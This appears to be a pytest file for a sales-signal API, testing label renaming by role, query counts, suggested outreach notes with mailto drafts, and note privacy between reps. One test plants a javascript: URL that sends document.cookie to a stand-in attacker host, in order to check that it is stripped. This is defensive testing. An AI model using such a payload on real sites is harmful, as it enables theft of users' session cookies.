"""Terminology and reasons to call over the API: who may rename, where labels show,
and notes that stay with their author."""

from urllib.parse import parse_qs, urlsplit

from sqlalchemy import event

from intel.db import session_scope
from intel.models import Alert
from intel.types import EventType
from tests.factories import make_account, make_article, make_signal

API = "/api/v1"


def add_signal(session_factory, *, alert_for=None, url="https://news.example/acme", **fields):
    """A funding signal about a new account (and an alert on it for ``alert_for``)."""
    with session_scope(session_factory) as session:
        account = make_account(session)
        article = make_article(session, title="Acme raises $40M Series B", url=url)
        signal = make_signal(session, article, account, **fields)
        if alert_for is not None:
            session.add(
                Alert(
                    user_id=alert_for,
                    signal_id=signal.id,
                    story_id=signal.story_id,
                    account_id=account.id,
                    score=0.9,
                    reason="You follow it",
                )
            )
        return signal.id


def labels(client, caller, kind="signal_type"):
    body = client.get(f"{API}/terms", headers=caller.headers).json()
    return {item["key"]: item["label"] for item in body[kind]}


def test_everyone_reads_the_defaults_and_bad_labels_change_nothing(client, rep, admin):
    response = client.get(f"{API}/terms", headers=rep.headers)
    assert response.status_code == 200
    funding = response.json()["signal_type"][0]
    assert funding == {
        "key": "funding",
        "label": "Funding",
        "default_label": "Funding",
        "renamed": False,
    }
    assert labels(client, rep, "heat_tier") == {"hot": "Hot", "warm": "Warm", "cool": "Cool"}
    for body in (
        {"signal_type": {"bankruptcy": "Gone"}},
        {"heat_tier": {"hot": "x" * 65}},
        {"signal_type": {"funding": "New\nmoney"}},
        {"colour": {"funding": "Green"}},
    ):
        response = client.put(f"{API}/terms", json=body, headers=admin.headers)
        assert response.status_code == 422, body
        assert response.headers["content-type"] == "application/problem+json"
    assert labels(client, rep)["funding"] == "Funding"


def test_marketing_renames_and_reps_see_the_new_label_everywhere(
    client, session_factory, rep, marketing
):
    signal_id = add_signal(session_factory, alert_for=rep.user_id)
    refused = client.put(
        f"{API}/terms", json={"signal_type": {"funding": "Mine"}}, headers=rep.headers
    )
    assert refused.status_code == 403
    renamed = client.put(
        f"{API}/terms",
        json={"signal_type": {"funding": " New money "}, "heat_tier": {"hot": "On fire"}},
        headers=marketing.headers,
    )
    assert renamed.status_code == 200
    assert labels(client, rep)["funding"] == "New money"
    assert labels(client, rep, "heat_tier")["hot"] == "On fire"
    [signal] = client.get(f"{API}/signals", headers=rep.headers).json()["items"]
    assert (signal["id"], signal["type"], signal["type_label"]) == (
        signal_id,
        "funding",
        "New money",
    )
    [item] = client.get(f"{API}/inbox", headers=rep.headers).json()["items"]
    assert (item["signal"]["type"], item["type_label"]) == ("funding", "New money")

    client.put(f"{API}/terms", json={"signal_type": {"funding": ""}}, headers=marketing.headers)
    assert labels(client, rep)["funding"] == "Funding"
    [signal] = client.get(f"{API}/signals", headers=rep.headers).json()["items"]
    assert signal["type_label"] == "Funding"


def test_labels_cost_one_query_per_page_not_one_per_signal(client, engine, session_factory, rep):
    statements: list[str] = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    def queries_for_signals():
        statements.clear()
        event.listen(engine, "before_cursor_execute", count)
        try:
            assert client.get(f"{API}/signals", headers=rep.headers).status_code == 200
        finally:
            event.remove(engine, "before_cursor_execute", count)
        return len(statements)

    add_signal(session_factory)
    queries_for_signals()  # the first request also opens a connection and notes the token
    one = queries_for_signals()
    for _ in range(4):
        add_signal(session_factory, type=EventType.LEADERSHIP)
    assert queries_for_signals() == one


def parse_mailto(mailto):
    parts = urlsplit(mailto)
    assert (parts.scheme, parts.path) == ("mailto", "")
    return {k: v[0] for k, v in parse_qs(parts.query, strict_parsing=True).items()}


def test_a_rep_gets_a_suggestion_with_a_draft_that_links_only_to_web_pages(
    client, session_factory, rep
):
    signal_id = add_signal(
        session_factory, url="https://news.example/acme?id=1&src=rss", fields={"amount": 4e7}
    )
    response = client.get(f"{API}/signals/{signal_id}/note", headers=rep.headers)
    assert response.status_code == 200
    note = response.json()
    assert note["suggested"] is True
    assert "raised 40M" in note["text"]
    assert note["story_url"] == "https://news.example/acme?id=1&src=rss"
    assert note["clipboard"] == f"{note['text']}\n\n{note['story_url']}"
    draft = parse_mailto(note["mailto"])
    assert draft["body"] == note["clipboard"].replace("\n", "\r\n")
    assert "Acme raises $40M Series B" in draft["subject"]

    hostile = add_signal(session_factory, url="javascript:fetch('//evil.example/'+document.cookie)")
    note = client.get(f"{API}/signals/{hostile}/note", headers=rep.headers).json()
    assert note["story_url"] == ""
    assert "javascript" not in note["mailto"].lower()
    assert "javascript" not in note["clipboard"].lower()


def test_a_reps_note_is_invisible_to_another_rep(client, session_factory, rep, other_rep):
    signal_id = add_signal(session_factory)
    path = f"{API}/signals/{signal_id}/note"
    suggestion = client.get(path, headers=other_rep.headers).json()
    saved = client.put(path, json={"text": "Rita's secret angle"}, headers=rep.headers)
    assert (saved.status_code, saved.json()["suggested"]) == (200, False)
    assert saved.json()["text"] == "Rita's secret angle"

    theirs = client.get(path, headers=other_rep.headers).json()
    assert theirs == suggestion  # their own suggestion, not Rita's text
    client.put(path, json={"text": "Rob's own"}, headers=other_rep.headers)
    assert client.get(path, headers=rep.headers).json()["text"] == "Rita's secret angle"

    reset = client.put(path, json={"text": ""}, headers=rep.headers).json()
    assert reset["suggested"] is True
    assert reset["text"] == suggestion["text"]
    assert client.get(path, headers=other_rep.headers).json()["text"] == "Rob's own"


def test_notes_on_missing_signals_and_overlong_notes_are_refused(client, session_factory, rep):
    assert client.get(f"{API}/signals/999999/note", headers=rep.headers).status_code == 404
    missing = client.put(f"{API}/signals/999999/note", json={"text": "x"}, headers=rep.headers)
    assert missing.status_code == 404
    signal_id = add_signal(session_factory)
    path = f"{API}/signals/{signal_id}/note"
    assert client.put(path, json={"text": "x" * 2001}, headers=rep.headers).status_code == 422
    assert client.put(path, json={"text": "a\x00b"}, headers=rep.headers).status_code == 422
    assert client.get(path, headers=rep.headers).json()["suggested"] is True
